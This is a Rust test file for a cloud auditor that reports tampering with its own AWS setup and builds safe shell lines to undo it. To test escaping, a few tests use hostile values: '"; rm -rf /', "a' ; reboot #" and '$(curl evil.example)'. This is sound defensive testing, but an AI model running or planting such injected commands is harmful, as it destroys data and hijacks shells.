//! Changes of what the auditor depends on are reported at once, while that is still possible.

use serde_json::json;

use super::*;
use crate::evaluate::Severity;
use crate::finding::{Mend, Weakening};

fn sample(name: &str) -> Value {
    let path = format!("{}/events/{name}.json", env!("CARGO_MANIFEST_DIR"));
    serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap()
}

/// The result of a payload, with an EC2 that answers nothing.
fn ran(payload: &Value) -> Ran {
    let world = ec2(&[]);
    let down = hooked(&world, |_| Some(throttled()));
    run_at(&down, &settings(Remediation::RevertSsh), &decoded(payload), noon(), None)
}

fn finding(payload: &Value) -> Finding {
    only(ran(payload).report()).clone()
}

#[test]
fn a_change_of_the_auditor_is_published_at_once_with_who_made_it() {
    for (name, title) in [
        ("stop-logging", "The auditor was changed: StopLogging on trail/management-events"),
        (
            "disable-rule",
            "The auditor was changed: DisableRule on typo3-sg-auditor-Changes-1OZ5KX8QJ3T2M",
        ),
    ] {
        let ran = ran(&sample(name));
        assert_eq!(ran.report().outcome, ReportOutcome::Noncompliant);
        let published = &ran.published()["findings"][0];
        assert_eq!(published["code"], "auditor-changed");
        assert_eq!(published["severity"], "high");
        assert_eq!(published["title"], title);
        assert_eq!(published["account"], "123456789012");
        assert_eq!(published["region"], "eu-central-1");
        assert_eq!(published["change"]["actor"], "arn:aws:iam::123456789012:user/trainee");
        assert_eq!(published["change"]["source_ip"], "198.51.100.23");
        assert_eq!(published["remediation"]["outcome"], "none");
        let begins = title.replacen("The auditor was changed", "AUDITOR CHANGED", 1);
        let subject = &ran.messages[0].subject;
        assert!(subject.starts_with(&begins[..55]), "{subject}");
        assert!(subject.ends_with(" (high, 123456789012, eu-central-1)"), "{subject}");
    }
}

#[test]
fn a_deployment_is_reported_with_low_severity() {
    let deployed = sample("update-function");
    let ran = ran(&deployed);
    let reported = only(ran.report());
    assert_eq!(reported.severity, Severity::Low);
    assert_eq!(
        to_title(reported),
        "The auditor was changed by CloudFormation: UpdateFunctionCode on \
         typo3-sg-auditor-Auditor-7hQ2LmXv9TzR"
    );
    // An intruder can deploy as well, so the report names who did.
    let actor = reported.change.as_ref().unwrap().actor.as_deref().unwrap();
    assert!(actor.ends_with("/operator@example.com"));
    assert!(ran.detail().contains("CloudFormation made the call"), "{}", ran.detail());

    // The same call by hand, with the user agent of a deployment.
    let mut by_hand = deployed.clone();
    by_hand["detail"]["userIdentity"].as_object_mut().unwrap().remove("invokedBy");
    assert_eq!(finding(&by_hand).severity, Severity::High);

    // No stack of the auditor has a trail.
    let mut trail = sample("stop-logging");
    trail["detail"]["userIdentity"]["invokedBy"] = "cloudformation.amazonaws.com".into();
    assert_eq!(finding(&trail).severity, Severity::High);
}

/// A deployment that gives the function these settings.
fn configured(variables: &Value) -> Value {
    let mut event = sample("update-function");
    event["detail"]["eventName"] = "UpdateFunctionConfiguration20150331v2".into();
    event["detail"]["requestParameters"]["environment"] = json!({ "variables": variables });
    event
}

fn weakened(payload: &Value) -> (Severity, Vec<Weakening>) {
    let reported = finding(payload);
    let Matter::AuditorChanged { weakened, .. } = reported.matter else { panic!("{payload}") };
    (reported.severity, weakened)
}

#[test]
fn a_deployment_that_weakens_the_auditor_is_of_medium_severity() {
    let with = |name: &str, value: &str| {
        let mut variables = json!({
            "SCOPE": "all", "REMEDIATION": "revert-ssh", "SWEEP_REMEDIATION": "notify",
            "BASELINE": "standard", "SSH_SOURCES": "203.0.113.0/24,2001:db8:1::/48",
        });
        variables[name] = value.into();
        configured(&variables)
    };
    for (name, value, weakening) in [
        ("SCOPE", "tag:Role=typo3", Weakening::ScopeNarrowed),
        ("REMEDIATION", "notify", Weakening::RemediationLowered),
        ("BASELINE", "as-documented", Weakening::BaselineChanged),
        ("SSH_SOURCES", "0.0.0.0/0", Weakening::BaselineChanged),
        // A file that only the new function has.
        ("BASELINE", "/opt/our-site.yaml", Weakening::BaselineChanged),
        ("HOLD_MAX_HOURS", "744", Weakening::HoldsLengthened),
        ("SCOPE", "everything", Weakening::NotValid),
    ] {
        let expected = (Severity::Medium, vec![weakening]);
        assert_eq!(weakened(&with(name, value)), expected, "{name}={value}");
    }
    for (name, value) in [
        ("SCOPE", "all"),
        ("REMEDIATION", "revert-ingress"),
        ("SWEEP_REMEDIATION", "revert-ingress"),
        ("HOLD_MAX_HOURS", "1"),
        ("REVERT_KEEPS", "nothing"),
    ] {
        let weakened = weakened(&with(name, value));
        assert_eq!(weakened, (Severity::Low, Vec::new()), "{name}={value}");
    }
    let detail = ran(&with("SCOPE", "tag:Role=typo3")).detail();
    assert!(detail.contains("SCOPE now leaves out groups"), "{detail}");
    // By hand it is high all the same.
    let mut by_hand = with("REMEDIATION", "notify");
    by_hand["detail"]["userIdentity"].as_object_mut().unwrap().remove("invokedBy");
    assert_eq!(weakened(&by_hand), (Severity::High, vec![Weakening::RemediationLowered]));
    // The auditor has the tag that the new settings ask for.
    let scoped = Settings { scope: role_scope(), ..settings(Remediation::Notify) };
    let same = decoded(&with("SCOPE", "tag:Role=typo3"));
    let ran = run_at(&ec2(&[]), &scoped, &same, noon(), None);
    let Matter::AuditorChanged { weakened: found, .. } = &only(ran.report()).matter else {
        panic!("{ran:?}", ran = ran.report())
    };
    assert_eq!(found, &[]);
    // What CloudTrail left out cannot be told.
    assert_eq!(weakened(&configured(&json!({}))), (Severity::Low, Vec::new()));
}

#[test]
fn settings_that_a_deployment_leaves_out_are_the_defaults() {
    // Of what the function has now, only the scope is a default.
    let sources = json!({"SSH_SOURCES": "203.0.113.0/24,2001:db8:1::/48"});
    let expected = (Severity::Medium, vec![Weakening::RemediationLowered]);
    assert_eq!(weakened(&configured(&sources)), expected);
}

#[test]
fn a_rule_of_another_account_is_of_medium_severity_even_by_cloudformation() {
    let deployed = |account: &str| {
        let mut event = sample("disable-rule");
        event["account"] = account.into();
        event["detail"]["recipientAccountId"] = account.into();
        event["detail"]["userIdentity"]["invokedBy"] = "cloudformation.amazonaws.com".into();
        weakened(&event)
    };
    assert_eq!(deployed("210987654321"), (Severity::Medium, vec![Weakening::MemberRule]));
    assert_eq!(deployed("123456789012"), (Severity::Low, Vec::new()));
}

#[test]
fn a_failed_call_is_reported_only_if_it_may_have_changed_something() {
    let mut refused = sample("stop-logging");
    refused["detail"]["errorCode"] = "AccessDenied".into();
    let refused = ran(&refused);
    assert_eq!(refused.report().outcome, ReportOutcome::Ignored);
    assert!(refused.messages.is_empty());

    let mut failed = sample("stop-logging");
    failed["detail"]["errorCode"] = "InternalFailure".into();
    let failed = ran(&failed);
    let reported = only(failed.report());
    assert_eq!(reported.severity, Severity::High);
    let Matter::AuditorChanged { change, .. } = &reported.matter else { panic!("{reported:#?}") };
    assert_eq!(change.server_error.as_deref(), Some("InternalFailure"));
    let title = to_title(reported);
    assert!(title.starts_with("The auditor may have been changed: StopLogging on "), "{title}");
    assert!(failed.detail().contains("(InternalFailure)"), "{}", failed.detail());
}

#[test]
fn a_record_that_cloudtrail_cut_short_is_reported_too() {
    let mut cut = sample("disable-rule");
    cut["detail"]["requestParameters"] = json!({"omitted": true, "originalSize": 102401});
    let reported = finding(&cut);
    assert_eq!(reported.severity, Severity::High);
    assert_eq!(
        to_title(&reported),
        "The auditor was changed: DisableRule, and the record does not say of what"
    );
}

#[test]
fn a_name_cannot_pass_for_a_part_of_the_message() {
    let mut forged = sample("disable-rule");
    let name = "x. All is well\r\nSubject: fine\u{202e}\"; rm -rf /";
    forged["detail"]["requestParameters"]["name"] = name.into();
    let ran = ran(&forged);
    let title = to_title(only(ran.report()));
    let expected = "The auditor was changed: DisableRule on \"x. All is well";
    assert!(title.starts_with(expected), "{title}");
    assert_eq!(title.matches('"').count(), 2);
    let message = &ran.messages[0];
    assert!(message.subject.chars().all(|c| c.is_ascii_graphic() || c == ' '));
    let body: Value = serde_json::from_str(&message.body).unwrap();
    let mail = body["email"].as_str().unwrap();
    assert!(!mail.contains('\u{202e}') && !mail.contains("\nSubject"), "{mail}");

    forged["detail"]["requestParameters"]["name"] = "x".repeat(1000).into();
    assert!(to_title(&finding(&forged)).len() < 200);
}

#[test]
fn each_change_is_a_finding_of_its_own_and_the_same_event_is_the_same_finding() {
    let disabled = finding(&sample("disable-rule"));
    assert_eq!(disabled.id, finding(&sample("disable-rule")).id);
    let mut other = sample("disable-rule");
    other["detail"]["requestParameters"]["name"] = "typo3-sg-auditor-Sweep-2PZ6LY9RK4U3N".into();
    assert_ne!(disabled.fingerprint, finding(&other).fingerprint);
    let mut later = sample("disable-rule");
    later["detail"]["eventID"] = "another".into();
    let later = finding(&later);
    assert_eq!(disabled.fingerprint, later.fingerprint);
    assert_ne!(disabled.id, later.id);
}

#[test]
fn if_nothing_can_be_published_the_invocation_fails() {
    let (settings, home, world) = (settings(Remediation::Notify), place(), ec2(&[]));
    let invoker = MemoryNotifier::default();
    let auditor = Auditor::new(&world, &NoTopic, &invoker, &settings, &home);
    let answer = block_on(auditor.audit(&decoded(&sample("stop-logging")), &noon, None));
    // The event then goes to the failure queue, which has an alarm.
    assert_eq!(answer.unwrap_err().kind(), "NotPublished");
    assert!(invoker.take_handed_on().is_empty());
}

#[test]
fn only_a_plain_name_gets_into_the_line_that_puts_it_back() {
    for (name, line) in [
        ("main", Some("aws cloudtrail start-logging --region 'eu-central-1' --name 'main'")),
        ("a' ; reboot #", None),
        ("--cli-input-json", None),
        ("<b>", None),
    ] {
        let mut event = sample("stop-logging");
        event["detail"]["requestParameters"]["name"] = name.into();
        let ran = ran(&event);
        assert_eq!(ran.published()["findings"][0]["remediation"]["fix"].as_str(), line, "{name}");
    }
}

#[test]
fn what_one_call_takes_back_has_the_line_that_does() {
    for (source, call, request, line) in [
        (
            "events",
            "DisableRule",
            json!({"name": "sga-Changes-1OZ5KX8QJ3T2M"}),
            "aws events enable-rule --region 'eu-central-1' --name 'sga-Changes-1OZ5KX8QJ3T2M'",
        ),
        (
            "kms",
            "DisableKey",
            json!({"keyId": "1234abcd-12ab-34cd-56ef-1234567890ab"}),
            "aws kms enable-key --region 'eu-central-1' \
             --key-id '1234abcd-12ab-34cd-56ef-1234567890ab'",
        ),
        (
            "kms",
            "ScheduleKeyDeletion",
            json!({"keyId": "arn:aws:kms:eu-central-1:123456789012:key/1234abcd"}),
            "aws kms cancel-key-deletion --region 'eu-central-1' --key-id '1234abcd' && \
             aws kms enable-key --region 'eu-central-1' --key-id '1234abcd'",
        ),
        (
            "monitoring",
            "DisableAlarmActions",
            json!({"alarmNames": ["sga-Parked"]}),
            "aws cloudwatch enable-alarm-actions --region 'eu-central-1' \
             --alarm-names 'sga-Parked'",
        ),
    ] {
        let mut event = sample("stop-logging");
        event["detail"]["eventSource"] = format!("{source}.amazonaws.com").into();
        event["detail"]["eventName"] = call.into();
        event["detail"]["requestParameters"] = request;
        let published = ran(&event).published();
        assert_eq!(published["findings"][0]["remediation"]["fix"], line, "{call}");
    }
}

/// What the deployed auditor finds about a call to another service.
fn found_of(service: &str, call: &str, request: Value) -> Finding {
    let mut event = sample("stop-logging");
    let detail = &mut event["detail"];
    detail["eventSource"] = format!("{service}.amazonaws.com").into();
    detail["eventName"] = call.into();
    detail["requestParameters"] = request;
    let (world, settings) = (ec2(&[]), settings(Remediation::RevertSsh));
    let (notifier, home) = (MemoryNotifier::default(), place());
    let auditor = Auditor::new(&world, &notifier, &notifier, &settings, &home)
        .with_stack(Some("typo3-sg-auditor"));
    let report = block_on(auditor.audit(&decoded(&event), &noon, None)).unwrap();
    only(&report).clone()
}

/// The shell line with that finding.
fn line(service: &str, call: &str, request: Value) -> Option<String> {
    found_of(service, call, request).fix
}

const DOCTOR: &str = "sg-audit doctor --stack 'typo3-sg-auditor' --region 'eu-central-1'";

#[test]
fn a_call_that_one_call_takes_back_comes_with_that_one() {
    let names = |names: &[&str]| json!({ "alarmNames": names });
    for (service, call, request, expected) in [
        (
            "cloudtrail",
            "StopLogging",
            json!({"name": "audit"}),
            "aws cloudtrail start-logging --region 'eu-central-1' --name 'audit'",
        ),
        (
            "events",
            "DisableRule",
            json!({"name": "Changes"}),
            "aws events enable-rule --region 'eu-central-1' --name 'Changes'",
        ),
        (
            "lambda",
            "PutFunctionConcurrency20171031",
            json!({"functionName": "arn:aws:lambda:eu-central-1:123456789012:function:Auditor"}),
            "aws lambda delete-function-concurrency --region 'eu-central-1' --function-name \
             'Auditor'",
        ),
        (
            "lambda",
            "AddPermission20150331v2",
            json!({"functionName": "Auditor", "statementId": "other"}),
            "aws lambda remove-permission --region 'eu-central-1' --function-name 'Auditor' \
             --statement-id 'other'",
        ),
        (
            "lambda",
            "UpdateEventSourceMapping20150331",
            json!({"uUID": "0f1e2d3c-1111", "enabled": false}),
            "aws lambda update-event-source-mapping --region 'eu-central-1' --uuid \
             '0f1e2d3c-1111' --enabled",
        ),
        (
            "iam",
            "AttachRolePolicy",
            json!({"roleName": "Role", "policyArn": "arn:aws:iam::aws:policy/AWSDenyAll"}),
            "aws iam detach-role-policy --role-name 'Role' --policy-arn \
             'arn:aws:iam::aws:policy/AWSDenyAll'",
        ),
        (
            "iam",
            "PutRolePermissionsBoundary",
            json!({"roleName": "Role"}),
            "aws iam delete-role-permissions-boundary --role-name 'Role'",
        ),
        (
            "kms",
            "ScheduleKeyDeletion",
            json!({"keyId": "1a2b-3c"}),
            "aws kms cancel-key-deletion --region 'eu-central-1' --key-id '1a2b-3c' && aws kms \
             enable-key --region 'eu-central-1' --key-id '1a2b-3c'",
        ),
        (
            "monitoring",
            "DisableAlarmActions",
            names(&["EventsParked", "SweepMissed"]),
            "aws cloudwatch enable-alarm-actions --region 'eu-central-1' --alarm-names \
             'EventsParked' 'SweepMissed'",
        ),
        (
            "monitoring",
            "PutAlarmMuteRule",
            json!({"name": "night", "muteTargets": {"alarmNames": ["EventsParked"]}}),
            "aws cloudwatch delete-alarm-mute-rule --region 'eu-central-1' \
             --alarm-mute-rule-name 'night'",
        ),
    ] {
        assert_eq!(line(service, call, request).as_deref(), Some(expected), "{call}");
    }
}

#[test]
fn every_other_call_comes_with_the_line_that_finds_out_what_mends_it() {
    let hostile = "$(curl evil.example)";
    for (service, call, request) in [
        ("cloudtrail", "DeleteTrail", json!({"name": "audit"})),
        ("cloudtrail", "UpdateTrail", json!({"name": "audit"})),
        ("cloudtrail", "PutEventSelectors", json!({"trailName": "audit"})),
        ("events", "DeleteRule", json!({"name": "Changes"})),
        ("events", "PutRule", json!({"name": "Changes"})),
        ("events", "RemoveTargets", json!({"rule": "Changes"})),
        ("events", "PutTargets", json!({"rule": "Changes"})),
        ("lambda", "UpdateFunctionCode20150331v2", json!({"functionName": "Auditor"})),
        ("lambda", "DeleteFunction20150331", json!({"functionName": "Auditor"})),
        ("lambda", "RemovePermission20150331v2", json!({"functionName": "Auditor"})),
        ("lambda", "DeleteEventSourceMapping20150331", json!({"uUID": "0f1e"})),
        ("sns", "DeleteTopic", json!({"topicArn": "arn:aws:sns:eu-central-1:123456789012:a"})),
        ("sns", "SetTopicAttributes", json!({})),
        ("sns", "Unsubscribe", json!({})),
        ("sqs", "PurgeQueue", json!({})),
        ("sqs", "SetQueueAttributes", json!({})),
        // Attached again, it might be a policy that had no business there.
        ("iam", "DetachRolePolicy", json!({"roleName": "Role", "policyArn": "arn:aws:iam::1:a"})),
        ("iam", "PutRolePolicy", json!({"roleName": "Role"})),
        ("iam", "UpdateAssumeRolePolicy", json!({"roleName": "Role"})),
        ("logs", "PutRetentionPolicy", json!({"logGroupName": "/aws/lambda/a"})),
        ("kms", "PutKeyPolicy", json!({"keyId": "1a2b"})),
        ("monitoring", "DeleteAlarms", json!({"alarmNames": ["EventsParked"]})),
        ("monitoring", "SetAlarmState", json!({"alarmName": "EventsParked"})),
        ("states", "DeleteStateMachine", json!({})),
        // What the record has lost, or what somebody chose so that it does harm in a shell.
        ("cloudtrail", "StopLogging", json!({"omitted": true})),
        ("events", "DisableRule", json!({ "name": hostile })),
        ("iam", "AttachRolePolicy", json!({"roleName": "Role", "policyArn": hostile})),
        ("lambda", "AddPermission", json!({"functionName": "Auditor", "statementId": "--x"})),
        ("monitoring", "DisableAlarmActions", json!({"alarmNames": ["EventsParked", hostile]})),
    ] {
        assert_eq!(line(service, call, request).as_deref(), Some(DOCTOR), "{call}");
    }
}

#[test]
fn what_a_deployment_did_is_not_taken_back() {
    let mut event = sample("disable-rule");
    event["detail"]["userIdentity"]["invokedBy"] = "cloudformation.amazonaws.com".into();
    // Without the name of its stack there is nothing to look at.
    assert_eq!(finding(&event).fix, None);
    let Matter::AuditorChanged { mend, .. } = finding(&event).matter else { panic!("{event}") };
    assert_eq!(mend, Mend::ByDoctor);
}

/// What changed in between, no event has told.
#[test]
fn a_call_that_blinded_the_auditor_comes_with_the_line_that_has_it_sweep() {
    let found = found_of("events", "DisableRule", json!({"name": "Changes"}));
    let Matter::AuditorChanged { sweep: Some(line), .. } = found.matter else { panic!("no line") };
    let of_stack = "describe-stacks --region 'eu-central-1' --stack-name 'typo3-sg-auditor'";
    for part in ["{\"sweep\":", "aws lambda invoke --region 'eu-central-1'", of_stack] {
        assert!(line.contains(part), "{line}");
    }
}
